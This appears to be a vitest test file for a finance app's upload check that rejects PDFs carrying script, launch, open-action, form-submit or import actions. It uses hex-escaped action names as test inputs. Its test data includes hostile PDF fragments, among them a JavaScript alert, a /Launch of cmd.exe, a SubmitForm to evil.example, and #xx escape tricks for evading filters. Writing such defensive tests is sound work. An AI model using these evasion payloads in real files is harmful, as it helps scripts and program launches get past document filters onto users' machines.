import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestContext } from '../../../test/app.ts';
import { transactionEndpoints } from '@app/contract';
import { createTestApp } from '../../../test/app.ts';
import { callEndpoint } from '../../../test/answers.ts';
import {
  createAccount,
  createCategory,
  signIn,
  transactionValues,
} from '../../../test/factories.ts';
import { isPolyglot } from './storage.ts';

const pdf = (body: string) => Buffer.from(`%PDF-1.4\n${body}\ntrailer <<>>\n%%EOF\n`);

describe('PDF script, launch and open-action check', () => {
  it('refuses actions whose names are spelled with #xx escapes', () => {
    for (const body of [
      // The finding: /JS and /JavaScript written as hex escapes.
      '1 0 obj << /Type /Annot /A << /S /Java#53cript /#4A#53 (app.alert(1)) >> >> endobj',
      '1 0 obj << /Type /Annot /A << /S /#4A#61vaScript /#4a#53(app.alert(1)) >> >> endobj',
      '1 0 obj << /Type /Annot /A << /S /#4A#61#76#61#53#63#72#69#70#74 >> >> endobj',
      '1 0 obj << /Type /Annot /A << /S /#4Caunch /F (cmd.exe) >> >> endobj',
      '1 0 obj << /Type /Catalog /Open#41ction 5 0 R >> endobj',
      '1 0 obj << /Type /Page /#41#41 << /O 5 0 R >> >> endobj',
    ]) {
      expect(isPolyglot(pdf(body), 'pdf'), body).toBe(true);
    }
  });

  it('refuses actions however the name ends (a delimiter, a dictionary end, the file end)', () => {
    for (const body of [
      '1 0 obj << /S /Launch>> endobj',
      '1 0 obj << /S /JavaScript>> endobj',
      '1 0 obj <</JS<6170702e616c657274283129>>> endobj',
      '1 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj',
      '1 0 obj << /S /ImportData /F (data.fdf) >> endobj',
      '1 0 obj << /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >> endobj',
      '1 0 obj << /Type /Catalog /OpenAction 5 0 R >> endobj',
      '/JS',
    ]) {
      expect(isPolyglot(pdf(body), 'pdf'), body).toBe(true);
    }
  });

  it('accepts ordinary PDFs: an open-at-page destination and names that merely contain the words', () => {
    for (const body of [
      '1 0 obj <<>> endobj',
      '1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /FitH null] >> endobj',
      '1 0 obj << /Type /Catalog /OpenAction\n[3 0 R /XYZ null null 0] >> endobj',
      '1 0 obj << /JSONData 4 /Launcher (x) /AAB 1 /#41#42 2 /Author (JS Launch Ltd) >> endobj',
      '1 0 obj << /Type /Annot /A << /S /URI /URI (https://example.com/voucher) >> >> endobj',
    ]) {
      expect(isPolyglot(pdf(body), 'pdf'), body).toBe(false);
    }
  });

  it('does not decode escapes outside PDF files', () => {
    const png = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from('/#4A#53 /Launch'),
    ]);
    expect(isPolyglot(png, 'png')).toBe(false);
  });
});

describe('an escaped-script PDF uploaded through the API', () => {
  let t: TestContext;
  let token: string;
  let fields: Record<string, string | number>;
  beforeAll(async () => {
    t = await createTestApp();
    token = (
      await signIn(t.app, {
        role: 'staff',
        permissions: ['view_transactions', 'create_transactions'],
      })
    ).token;
    const account = await createAccount(t.app);
    const category = await createCategory(t.app);
    fields = transactionValues(account.id, category.id);
  });
  afterAll(() => t.close());

  const upload = (name: string, data: Buffer) => {
    const boundary = `----storage${Date.now()}`;
    const parts: Buffer[] = Object.entries(fields).map(([k, v]) =>
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`),
    );
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="attachment"; filename="${name}"\r\nContent-Type: application/pdf\r\n\r\n`,
      ),
      data,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    );
    return callEndpoint(t.app, transactionEndpoints.create, {
      token,
      payload: Buffer.concat(parts),
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    });
  };

  it('is refused with the field message; an ordinary PDF is stored', async () => {
    const hostile = await upload(
      'receipt.pdf',
      pdf('1 0 obj << /Type /Annot /A << /S /#4A#61vaScript /#4A#53 (app.alert(1)) >> >> endobj'),
    );
    expect(hostile.status).toBe(422);
    expect(hostile.failure.errors).toEqual({
      attachment: ['The attachment content does not match its file type.'],
    });
    const ok = await upload('receipt.pdf', pdf('1 0 obj << /OpenAction [3 0 R /Fit] >> endobj'));
    expect(ok.status).toBe(201);
    expect(ok.ok.data.attachment).toMatch(/^transactions\/[0-9a-f-]{36}\.pdf$/);
  });
});
